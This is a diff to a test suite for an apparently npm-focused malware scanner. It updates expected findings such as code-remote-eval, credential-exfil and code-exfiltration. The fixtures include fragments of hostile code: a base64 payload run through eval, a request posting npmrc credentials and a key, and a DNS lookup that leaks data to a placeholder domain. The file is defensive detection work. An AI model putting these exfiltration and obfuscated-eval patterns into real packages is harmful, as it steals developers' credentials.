@@ -39,7 +39,7 @@ describe('scan: malicious samples', () => {
         '});',
       ].join('\n'),
     });
-    expect(summary(r)).toEqual(['critical install-script-remote-code install.js:5', 'low install-script package.json:5']);
+    expect(summary(r)).toEqual(['critical code-remote-eval install.js:5', 'critical install-script-remote-code install.js:5', 'low install-script package.json:5']);
   });
 
   it('install-script-shell: a preinstall spawning a shell is medium', async () => {
@@ -51,7 +51,7 @@ describe('scan: malicious samples', () => {
     const r = await scan({ main: 'index.js' }, {
       'index.js': `'use strict';\nconst blob = '${PAYLOAD_B64}';\nmodule.exports = () => eval(Buffer.from(blob, 'base64').toString());\n`,
     });
-    expect(summary(r)).toEqual(['high obfuscated-eval index.js:3']);
+    expect(summary(r)).toEqual(['high code-remote-eval index.js:3', 'high obfuscated-eval index.js:3']);
   });
 
   it('obfuscated-eval at install time is critical', async () => {
@@ -83,7 +83,7 @@ describe('scan: malicious samples', () => {
         'req.end(JSON.stringify({ npmrc, key }));',
       ].join('\n'),
     });
-    expect(summary(r)).toEqual(['high credential-exfil index.js:2']);
+    expect(summary(r)).toEqual(['high credential-exfil index.js:2', 'high code-exfiltration index.js:5']);
     expect(r.findings[0]!.message).toBe('reads npm, ssh credentials and sends data over the network');
   });
 
@@ -95,7 +95,7 @@ describe('scan: malicious samples', () => {
         "dns.resolve(data + '.example.invalid', () => {});",
       ].join('\n'),
     });
-    expect(summary(r)).toEqual(['critical credential-exfil collect.js:2', 'medium install-script-network collect.js:3', 'low install-script package.json:5']);
+    expect(summary(r)).toEqual(['critical credential-exfil collect.js:2', 'critical code-exfiltration collect.js:3', 'medium install-script-network collect.js:3', 'low install-script package.json:5']);
   });
 
   it('credential-exfil: a cloud metadata read next to fetch in a library is medium', async () => {
@@ -174,7 +174,8 @@ describe('scan: benign look-alikes are not high', () => {
     const r = await scan({ bin: { release: 'cli.js' } }, {
       'cli.js': "#!/usr/bin/env node\nrequire('child_process').execSync('npm publish --tag next', { stdio: 'inherit' });\n",
     });
-    expect(summary(r)).toEqual([]);
+    // Noted, never more than low: it runs only when the user runs the command, and rewrites no manifest.
+    expect(summary(r)).toEqual(['low code-worm cli.js:2']);
   });
 
   it('type declarations mentioning the metadata endpoint', async () => {
